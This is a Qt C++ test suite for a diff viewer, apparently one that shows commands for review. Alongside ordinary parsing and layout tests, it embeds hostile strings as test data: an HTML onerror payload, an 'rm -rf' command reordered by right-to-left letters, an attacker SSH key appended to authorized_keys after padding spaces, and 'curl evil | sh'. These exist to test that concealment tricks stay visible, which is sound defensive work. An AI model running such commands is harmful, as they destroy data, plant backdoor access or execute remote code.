// The diff model and both views over .diff fixtures and computed diffs, offscreen.
#include "ui/diff/DiffModel.h"
#include "ui/diff/DiffView.h"
#include "ui/diff/SyntaxColors.h"

#include <QFile>
#include <QRandomGenerator>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTextBlock>
#include <QTextLayout>
#include <QtTest>

using namespace interlock::ui;
using Kind = DiffLine::Kind;

namespace {
QString fixture(const char *name)
{
    QFile f(QStringLiteral(SOURCE_DIR "/tests/data/diff/") + QLatin1String(name));
    if (!f.open(QIODevice::ReadOnly))
        qFatal("missing fixture %s", name);
    return QString::fromUtf8(f.readAll());
}

QString changedWords(const DiffLine &line)
{
    QStringList words;
    for (const auto &[start, length] : line.changes)
        words.append(line.text.mid(start, length));
    return words.join(u'|');
}

// Where `needle` (first found) is drawn in `view`, in viewport coordinates.
QRect drawnAt(DiffTextView *view, const QString &needle)
{
    const QTextCursor found = view->document()->find(needle);
    if (found.isNull())
        return {};
    QTextCursor at(view->document());
    at.setPosition(found.selectionStart());
    return view->cursorRect(at);
}

const DiffLine *find(const DiffFile &file, Kind kind, const QString &text)
{
    for (const DiffLine &l : file.lines) {
        if (l.kind == kind && l.text == text)
            return &l;
    }
    return nullptr;
}
} // namespace

class TestDiffView : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void parsesUnifiedFixture()
    {
        const DiffDocument doc = parseUnifiedDiff(fixture("python-edit.diff"));
        QCOMPARE(doc.files.size(), 2);
        const DiffFile &py = doc.files[0];
        QCOMPARE(py.path, QStringLiteral("service.py"));
        QCOMPARE(py.language, QStringLiteral("Python"));
        QCOMPARE(py.added, 9);
        QCOMPARE(py.removed, 6);
        // Numbers on both sides follow the hunk header.
        const DiffLine *def = find(py, Kind::Context, QStringLiteral("def load_config(path):"));
        QVERIFY(def);
        QCOMPARE(def->oldNumber, 4);
        QCOMPARE(def->newNumber, 6);
        // Intra-line: only the changed words are marked.
        const DiffLine *oldRetry =
            find(py, Kind::Removed, QStringLiteral("def retry(fn, attempts=3):"));
        const DiffLine *newRetry =
            find(py, Kind::Added, QStringLiteral("def retry(fn, attempts=3, delay=0.5):"));
        QVERIFY(oldRetry && newRetry);
        QCOMPARE(changedWords(*oldRetry), QString());
        QCOMPARE(changedWords(*newRetry), QStringLiteral(", delay=0.5"));
        const DiffLine *except = find(py, Kind::Added, QStringLiteral("        except OSError:"));
        QCOMPARE(changedWords(*except), QStringLiteral("OSError"));
        QCOMPARE(doc.files[1].path, QStringLiteral("README.md"));
        QCOMPARE(doc.files[1].lines.last().kind, Kind::Note);
    }

    void newFileFromDevNull()
    {
        const DiffDocument doc = parseUnifiedDiff(fixture("new-file.diff"));
        QCOMPARE(doc.files.size(), 1);
        QCOMPARE(doc.files[0].path, QStringLiteral("notes.txt"));
        QCOMPARE(doc.files[0].added, 2);
    }

    void computedDiffHasHunksWithContext()
    {
        QStringList before, after;
        for (int i = 1; i <= 40; ++i)
            before.append(QStringLiteral("line %1").arg(i));
        after = before;
        after[4] = QStringLiteral("line five");
        after[30] = QStringLiteral("line thirty-one");
        after.insert(31, QStringLiteral("inserted"));
        const DiffDocument doc =
            diffOfTexts(QStringLiteral("a.txt"), {}, before.join(u'\n'), after.join(u'\n'));
        const DiffFile &f = doc.files[0];
        QCOMPARE(f.added, 3);
        QCOMPARE(f.removed, 2);
        QStringList hunks;
        for (const DiffLine &l : f.lines) {
            if (l.kind == Kind::Hunk)
                hunks.append(l.text);
        }
        QCOMPARE(hunks, (QStringList{QStringLiteral("@@ -2,7 +2,7 @@"),
                                     QStringLiteral("@@ -28,7 +28,8 @@")}));
        const DiffLine *changed = find(f, Kind::Added, QStringLiteral("line five"));
        QCOMPARE(changedWords(*changed), QStringLiteral("five"));
        QCOMPARE(changed->newNumber, 5);
    }

    void editScriptRebuildsBothSides()
    {
        // Random texts with many repeated lines (the hard case for unique-line anchoring):
        // the old side of the diff must be exactly `before`, the new side exactly `after`.
        QRandomGenerator rng(7);
        DiffLimits all;
        all.contextLines = 1'000'000;
        for (int round = 0; round < 300; ++round) {
            QStringList a, b;
            const int n = int(rng.bounded(40)), m = int(rng.bounded(40));
            for (int i = 0; i < n; ++i)
                a.append(QString::number(rng.bounded(round % 2 ? 4 : 60)));
            for (int i = 0; i < m; ++i)
                b.append(QString::number(rng.bounded(round % 2 ? 4 : 60)));
            const DiffDocument doc =
                diffOfTexts(QStringLiteral("r"), {}, a.join(u'\n'), b.join(u'\n'), all);
            QStringList oldSide, newSide;
            int oldNo = 0, newNo = 0;
            for (const DiffLine &l : doc.files[0].lines) {
                if (l.kind == Kind::Context || l.kind == Kind::Removed) {
                    oldSide.append(l.text);
                    QCOMPARE(l.oldNumber, ++oldNo);
                }
                if (l.kind == Kind::Context || l.kind == Kind::Added) {
                    newSide.append(l.text);
                    QCOMPARE(l.newNumber, ++newNo);
                }
            }
            if (a != b) {
                QCOMPARE(oldSide, a);
                QCOMPARE(newSide, b);
            }
        }
    }

    void emptySideAndIdenticalTexts()
    {
        const DiffDocument added =
            diffOfTexts(QStringLiteral("m"), {}, {}, QStringLiteral("a\nb\n"));
        QCOMPARE(added.files[0].added, 2);
        QCOMPARE(added.files[0].removed, 0);
        const DiffDocument removed =
            diffOfTexts(QStringLiteral("m"), {}, QStringLiteral("a\nb"), {});
        QCOMPARE(removed.files[0].removed, 2);
        const DiffDocument same =
            diffOfTexts(QStringLiteral("m"), {}, QStringLiteral("a\n"), QStringLiteral("a\n"));
        QCOMPARE(same.files[0].lines.size(), 0);
        DiffLimits whole;
        whole.contextLines = 100;
        whole.wholeWhenUnchanged = true;
        const DiffDocument shown = diffOfTexts(QStringLiteral("m"), {}, QStringLiteral("a\nb\n"),
                                               QStringLiteral("a\nb\n"), whole);
        QCOMPARE(shown.files[0].lines.size(), 3); // one hunk line and both lines as context
        QCOMPARE(shown.files[0].lines[2].newNumber, 2);
    }

    void sideBySideRowsStayAligned()
    {
        const DiffDocument doc = parseUnifiedDiff(fixture("python-edit.diff"));
        const auto [left, right] = renderSideBySide(doc);
        QCOMPARE(left.rows.size(), right.rows.size());
        QCOMPARE(left.text.count(u'\n'), right.text.count(u'\n'));
        int fillers = 0;
        for (size_t i = 0; i < left.rows.size(); ++i) {
            // A removed row faces an added row or a filler, never context.
            if (left.rows[i].kind == Kind::Removed)
                QVERIFY(right.rows[i].kind == Kind::Added || right.rows[i].filler);
            fillers += left.rows[i].filler + right.rows[i].filler;
        }
        QCOMPARE(fillers, 9 - 6 + 1 - 0); // service.py: 3 more added lines; README: 1 added
    }

    void viewShowsBothModes()
    {
        DiffView view;
        view.show();
        QSignalSpy shown(&view, &DiffView::shown);
        QJsonObject action{{QStringLiteral("diff"), fixture("python-edit.diff")}};
        view.setAction(action);
        QVERIFY(view.isBuilding());
        QVERIFY(shown.wait(5000));
        QVERIFY(!view.isBuilding());
        QCOMPARE(view.document().files.size(), 2);
        const QString unified = view.unifiedView()->toPlainText();
        QVERIFY(unified.contains(QStringLiteral("\n    raise RuntimeError")));
        // Line numbers and sign are beside the text, not in it.
        const auto &rows = view.unifiedView()->rows();
        QVERIFY(std::any_of(rows.begin(), rows.end(), [](const DiffTextView::Row &r) {
            return r.kind == Kind::Added && r.gutter.endsWith(QStringLiteral("│+"));
        }));
        QCOMPARE(view.unifiedView()->document()->blockCount(),
                 int(view.unifiedView()->rows().size()));
        view.setMode(DiffView::Mode::SideBySide);
        QCOMPARE(view.oldView()->document()->blockCount(),
                 view.newView()->document()->blockCount());
        QVERIFY(view.oldView()->isVisible());
        QVERIFY(!view.unifiedView()->isVisible());
    }

    // [ and ] put each file's first row at the top, in both modes and whatever the height of the
    // window, also when the last files are shorter than the window. (The scroll bar used to stop
    // a window's height before the end, so a short last file was out of reach: ] stayed on the
    // file before it. Whether this showed depended on the font's line height.)
    void nextFileReachesEveryFile_data()
    {
        QTest::addColumn<bool>("sideBySide");
        QTest::addColumn<int>("visibleRows"); // 0: taller than the whole diff
        for (const bool side : {false, true}) {
            // Shorter than the first file (22 rows), as tall as most of the last two (11 rows),
            // taller than the whole diff.
            for (const int rows : {15, 10, 0}) {
                QTest::addRow("%s, %s rows", side ? "side by side" : "unified",
                              rows ? qPrintable(QString::number(rows)) : "all")
                    << side << rows;
            }
        }
    }

    void nextFileReachesEveryFile()
    {
        QFETCH(bool, sideBySide);
        QFETCH(int, visibleRows);
        DiffView view;
        view.resize(700, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy shown(&view, &DiffView::shown);
        // service.py, README.md and notes.txt, the last two short.
        view.setAction(QJsonObject{{QStringLiteral("diff"), QString(fixture("python-edit.diff") +
                                                                    fixture("new-file.diff"))}});
        QVERIFY(shown.wait(5000));
        QCOMPARE(view.document().files.size(), 3);
        view.setMode(sideBySide ? DiffView::Mode::SideBySide : DiffView::Mode::Unified);
        DiffTextView *text = sideBySide ? view.oldView() : view.unifiedView();

        // The text area's height in rows of its own font, so neither fonts nor screens matter.
        const int line = text->fontMetrics().lineSpacing();
        const int rows = visibleRows ? visibleRows : int(text->rows().size()) + 10;
        const int chrome = view.height() - text->viewport()->height();
        view.resize(700, chrome + rows * line);
        QTRY_COMPARE(text->viewport()->height(), rows * line);

        QCOMPARE(text->fileAtTop(), 0);
        // Forward to the last file and one past it, then back to the first and one before it.
        for (const auto &[delta, file] :
             {std::pair{1, 1}, {1, 2}, {1, 2}, {-1, 1}, {-1, 0}, {-1, 0}}) {
            view.nextFile(delta);
            QTRY_COMPARE(text->fileAtTop(), file);
        }
    }

    void hostileTextStaysPlain()
    {
        DiffView view;
        QSignalSpy shown(&view, &DiffView::shown);
        view.setTexts(QStringLiteral("<b>x</b>"), QString(),
                      QStringLiteral("<img src=x onerror=alert(1)><a href='y'>click</a>\n"));
        QVERIFY(shown.wait(5000));
        QVERIFY(view.unifiedView()->toPlainText().contains(QStringLiteral("<img src=x")));
    }

    // Right-to-left letters with no bidi control make Qt lay a paragraph out right to left (its
    // first strong character decides): ": א ; rm -rf /srv/data ; : ב ; tar czf …" was drawn with
    // the tar first (UI red team, F7). Every row is laid out left to right, in both modes.
    void rightToLeftLettersKeepTheOrderOfACommand()
    {
        DiffView view;
        view.resize(900, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy shown(&view, &DiffView::shown);
        view.setTexts(QStringLiteral("hostile"), QStringLiteral(": \u05D0 ; ls /srv ; : \u05D1\n"),
                      QStringLiteral(": \u05D0 ; rm -rf /srv/data ; : \u05D1 ; tar czf /b.tgz\n"));
        QVERIFY(shown.wait(5000));
        const auto inOrder = [](DiffTextView *v, const QString &first, const QString &then) {
            const QRect a = drawnAt(v, first), b = drawnAt(v, then);
            return a.isValid() && b.isValid() && a.top() == b.top() && a.left() < b.left();
        };
        QVERIFY(inOrder(view.unifiedView(), QStringLiteral("rm -rf"), QStringLiteral("tar czf")));
        QVERIFY(inOrder(view.unifiedView(), QStringLiteral(": \u05D0 ; rm"), QStringLiteral("rm")));
        view.setMode(DiffView::Mode::SideBySide);
        QVERIFY(inOrder(view.newView(), QStringLiteral("rm -rf"), QStringLiteral("tar czf")));
        QVERIFY(
            inOrder(view.oldView(), QStringLiteral(": \u05D0 ; ls"), QStringLiteral("ls /srv")));
    }

    // A one-line command whose tail sits after 240 spaces: the tail was off screen (NoWrap, UI
    // red team F1). Long rows wrap; their continuation lines start where the text starts, right
    // of the line numbers, which stay readable.
    void longLinesWrapBesideTheGutter()
    {
        DiffView view;
        view.resize(500, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy shown(&view, &DiffView::shown);
        const QString command = QStringLiteral("ls -la /var/log/nginx") + QString(240, u' ') +
                                QStringLiteral("; echo 'ssh-ed25519 AAAA attacker@evil' >> "
                                               "~/.ssh/authorized_keys");
        view.setTexts(QStringLiteral("cmd"), QString(), command + u'\n');
        QVERIFY(shown.wait(5000));
        for (const bool side : {false, true}) {
            view.setMode(side ? DiffView::Mode::SideBySide : DiffView::Mode::Unified);
            DiffTextView *text = side ? view.newView() : view.unifiedView();
            const QRect start = drawnAt(text, QStringLiteral("ls -la"));
            const QRect tail = drawnAt(text, QStringLiteral("authorized_keys"));
            QVERIFY(start.isValid() && tail.isValid());
            QVERIFY2(text->viewport()->rect().contains(tail.center()),
                     qPrintable(QStringLiteral("tail at %1,%2").arg(tail.x()).arg(tail.y())));
            QVERIFY(tail.top() > start.top());    // on a line of its own
            QVERIFY(tail.left() >= start.left()); // not under the line numbers
            QCOMPARE(text->horizontalScrollBar()->maximum(), 0);
            // The line numbers are drawn in a margin of their own, beside the text.
            QVERIFY(text->viewport()->geometry().left() >=
                    text->fontMetrics().horizontalAdvance(QString(text->gutter(), u'0')));
        }
    }

    // Lines past the display limit are cut, and the cut says so in words with how much is left.
    void cutLinesSayWhereTheRestIs()
    {
        const QString line = QString(5000, u'x') + QStringLiteral("; curl evil | sh");
        const DiffDocument doc = diffOfTexts(QStringLiteral("a"), {}, {}, line + u'\n');
        const DiffLine *added = nullptr;
        for (const DiffLine &l : doc.files.value(0).lines)
            if (l.kind == Kind::Added)
                added = &l;
        QVERIFY(added);
        QVERIFY(added->text.startsWith(QString(4000, u'x')));
        QVERIFY2(added->text.contains(QStringLiteral("1016 more characters")),
                 qPrintable(added->text.mid(4000)));
        QVERIFY(added->text.contains(QStringLiteral("Payload tab")));
    }

    void parsesHighlighterHtml()
    {
        const QByteArray html =
            "<html><body><pre>\n<span style=\"font-weight:bold;\">def</span> f(x):\n"
            "    <span style=\"color:#898887;\"># a &lt;b&gt; &amp; &quot;c&quot;</span>\n"
            "</pre></body></html>";
        const QList<LineSpans> lines = SyntaxColors::parseHtml(html);
        QCOMPARE(lines.size(), 2);
        QCOMPARE(lines[0].size(), 1);
        QCOMPARE(lines[0][0].start, 0);
        QCOMPARE(lines[0][0].length, 3);
        QVERIFY(lines[0][0].bold);
        QCOMPARE(lines[1][0].start, 4);
        QCOMPARE(lines[1][0].length, QStringLiteral("# a <b> & \"c\"").size());
        QCOMPARE(lines[1][0].color, QColor(QStringLiteral("#898887")));
    }

    void pythonGetsSyntaxColoursUnderTheDiff()
    {
        if (SyntaxColors::program().isEmpty())
            QSKIP("no KSyntaxHighlighting command-line highlighter (scripts/setup installs it)");
        DiffView view;
        view.resize(900, 600);
        view.show();
        view.setAction({{QStringLiteral("diff"), fixture("python-edit.diff")}});
        // "def" on the row of `def load_config(path):` is drawn bold by the Python definition,
        // while the row keeps its diff background (painted separately, under the text).
        const auto defIsBold = [](DiffTextView *v) {
            for (QTextBlock b = v->document()->begin(); b.isValid(); b = b.next()) {
                if (!b.text().endsWith(QStringLiteral("def load_config(path):")))
                    continue;
                for (const QTextLayout::FormatRange &f : b.layout()->formats()) {
                    if (b.text().mid(f.start, f.length) == QLatin1String("def"))
                        return f.format.fontWeight() == QFont::Bold;
                }
            }
            return false;
        };
        QTRY_VERIFY_WITH_TIMEOUT(defIsBold(view.unifiedView()), 15000);
        // The side-by-side views are filled only when shown, with the colours already made.
        view.setMode(DiffView::Mode::SideBySide);
        QTRY_VERIFY(defIsBold(view.newView()));
    }

    void largeDiffIsBuiltOffTheGuiThread()
    {
        QString before, after;
        for (int i = 0; i < 10000; ++i) {
            before += QStringLiteral("value_%1 = compute(%1)\n").arg(i);
            after += (i % 7 == 0 ? QStringLiteral("value_%1 = compute(%1, cached=True)\n")
                                 : QStringLiteral("value_%1 = compute(%1)\n"))
                         .arg(i);
        }
        DiffView view;
        view.show();
        QSignalSpy shown(&view, &DiffView::shown);
        QElapsedTimer gui;
        gui.start();
        view.setTexts(QStringLiteral("big.py"), before, after);
        // setTexts returns at once; the work happens on a worker thread.
        QVERIFY2(gui.elapsed() < 100, qPrintable(QString::number(gui.elapsed())));
        QVERIFY(shown.wait(20000));
        QCOMPARE(view.document().files[0].added, 1429);
    }
};

QTEST_MAIN(TestDiffView)
#include "tst_diffview.moc"
